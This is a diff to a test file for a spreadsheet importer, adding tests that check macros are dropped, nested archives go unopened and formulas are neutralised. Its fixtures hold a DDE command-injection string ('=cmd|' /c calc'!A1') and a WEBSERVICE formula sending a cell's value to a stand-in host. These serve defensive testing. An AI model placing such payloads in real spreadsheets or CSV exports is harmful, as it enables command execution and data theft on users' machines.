@@ -1,5 +1,7 @@
+import { loadValue, Workbook } from '@kerfbook/workbook';
 import { strToU8, zipSync } from 'fflate';
 import { describe, expect, it } from 'vitest';
+import { writeCsv } from '../csv/write.ts';
 import { importFile } from '../import-file.ts';
 import { handmade, handmadeParts, packed } from '../testing/handmade.ts';
 
@@ -158,6 +160,65 @@ describe('files that were made to do harm', () => {
       ).join('');
     expect(refused(handmade({ sheets: { S: rows(10_000, 100) } }))).toMatch(
       /50,000 formulas|unpacks to more/,
+    );
+  });
+
+  it('with array formulas that fill whole sheets, again and again', () => {
+    const cell = (row: number): string =>
+      `<row r="${row}"><c r="A${row}"><f t="array" ref="A${row}:ZZ9999">1+${row}</f><v>${1 + row}</v></c><c r="B${row}"><v>7</v></c></row>`;
+    const { document } = taken(
+      handmade({ sheets: { S: Array.from({ length: 500 }, (_, at) => cell(at + 1)).join('') } }),
+    );
+    expect(document.sheets[0]?.rows[499]?.cells?.c1).toEqual({ formula: '=1+500' });
+    expect(document.sheets[0]?.rows[499]?.cells?.c2).toEqual({ value: 7 });
+  });
+
+  it('with macros, which are named and never kept', () => {
+    const { document, told } = taken(
+      handmade({
+        ...GOOD,
+        parts: { 'xl/vbaProject.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 77]) },
+      }),
+    );
+    expect(told).toEqual([
+      {
+        kind: 'left-out',
+        of: 'the file',
+        says: 'Its macros are left out; nothing of them was carried out.',
+      },
+    ]);
+    expect(JSON.stringify(document)).not.toMatch(/vba|macro/i);
+  });
+
+  it('with archives in their parts, which nobody opens', () => {
+    const inner = packed({ 'a.xml': strToU8(' '.repeat(30 * MB)) });
+    const { document } = taken(handmade({ ...GOOD, parts: { 'xl/embeddings/x.zip': inner } }));
+    expect(document.sheets[0]?.rows).toHaveLength(1);
+    expect(refused(withSheet(Buffer.from(inner).toString('latin1')))).toContain('damaged');
+  });
+
+  it('with words and names that become formulas only once they are joined', () => {
+    const { document, told } = taken(
+      handmade({
+        strings: ['</t><t>=cmd|</t><t>\u0027 /c calc\u0027!A1'],
+        names:
+          '<definedName name="far_away">WEBSERVICE("http://a.invalid/"&amp;S!$A$1)</definedName>',
+        sheets: {
+          S: '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><f>1+far_away</f><v>5</v></c><c r="C1"><f>"="&amp;"1+1"</f><v>x</v></c></row>',
+        },
+      }),
+    );
+    const cells = document.sheets[0]?.rows[0]?.cells;
+    expect(cells?.c1).toEqual({ value: "=cmd|' /c calc'!A1" });
+    expect(cells?.c2?.value).toBe(5);
+    expect(cells?.c3?.formula).toBe('="="&"1+1"');
+    expect(told.find(({ of }) => of === 'S!B1')?.says).toContain('no function WEBSERVICE here');
+    // Out again as csv, words that would be formulas there are words still.
+    const loaded = loadValue(document);
+    if (!loaded.ok) throw new Error(loaded.says);
+    const book = Workbook.open(loaded.document);
+    expect(writeCsv(book, document.sheets[0]?.id ?? '', 'values')).toMatch(
+      /^'=cmd\|' \/c calc'!A1,5,'=1\+1/,
     );
   });
 
